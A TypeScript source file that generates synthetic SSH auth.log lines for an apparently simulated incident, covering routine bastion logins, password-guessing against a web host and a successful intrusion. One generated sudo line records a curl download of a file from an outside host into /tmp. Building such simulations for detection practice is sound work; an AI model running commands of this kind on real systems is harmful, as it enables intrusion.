import { busyness } from "./hours";
import { hosts } from "./hosts";
import { INCIDENTS } from "./incidents";
import { type Random } from "./random";

/** A line of a log, with where and when it was written. */
export interface Written {
  readonly account: string;
  readonly stream: string;
  /** Seconds since 1970. */
  readonly at: number;
  readonly text: string;
}

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

function syslog(at: number, host: string, program: string, text: string): string {
  const date = new Date(at * 1000);
  const day = String(date.getUTCDate()).padStart(2, " ");
  return `${MONTHS[date.getUTCMonth()]} ${day} ${date.toISOString().slice(11, 19)} ${host} ${program}: ${text}`;
}

const GUESSED = ["admin", "oracle", "ubuntu", "test", "postgres", "pi"];
const COMMANDS = [
  "/usr/bin/apt-get update",
  "/usr/bin/systemctl restart nginx",
  "/usr/bin/journalctl -u app",
];

/** The auth.log lines of an hour: bastions in the hub, where people log in, and one web host that is open too wide. */
export function authHour(hour: number, start: number, random: Random): Written[] {
  const lines: Written[] = [];
  const bastion = random.pick(hosts("hub", "shared"));
  const name = (address: string): string => `ip-${address.replaceAll(".", "-")}`;
  const write = (at: number, host: typeof bastion, program: string, text: string): void => {
    lines.push({
      account: host.account,
      stream: host.instanceId,
      at,
      text: syslog(at, name(host.address), program, text),
    });
  };
  const people = Math.round(3 * (busyness(hour) - 0.1));
  for (let index = 0; index < people; index += 1) {
    const at = start + random.between(0, 3000);
    const user = random.pick(["alice", "bob", "carol"]);
    const port = random.between(32768, 60999);
    write(
      at,
      bastion,
      "sshd[811]",
      `Accepted publickey for ${user} from 192.168.7.5 port ${port} ssh2: ED25519 SHA256:x`,
    );
    if (random.next() < 0.6) {
      write(
        at + 60,
        bastion,
        "sudo",
        `   ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${random.pick(COMMANDS)}`,
      );
    }
    write(at + 500, bastion, "sshd[811]", `Disconnected from user ${user} 192.168.7.5 port ${port}`);
  }
  const { intrusion } = INCIDENTS;
  const web = hosts("booking", "web")[0] as typeof bastion;
  const guesses =
    hour >= intrusion.hour - 5 && hour <= intrusion.hour ? 40 : hour > 60 ? random.between(2, 6) : 0;
  for (let index = 0; index < guesses; index += 1) {
    const at = start + random.between(0, 3500);
    const from = index % 4 === 0 ? "80.82.77.33" : intrusion.source;
    const port = random.between(32768, 60999);
    const user = random.pick(GUESSED);
    write(
      at,
      web,
      "sshd[902]",
      user === "ubuntu"
        ? `Failed password for ubuntu from ${from} port ${port} ssh2`
        : `Failed password for invalid user ${user} from ${from} port ${port} ssh2`,
    );
  }
  if (hour === intrusion.hour) {
    write(
      start + 790,
      web,
      "sshd[902]",
      `Accepted password for ubuntu from ${intrusion.source} port 51022 ssh2`,
    );
    write(
      start + 830,
      web,
      "sudo",
      "  ubuntu : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/u 203.0.113.200/u",
    );
  }
  return lines;
}
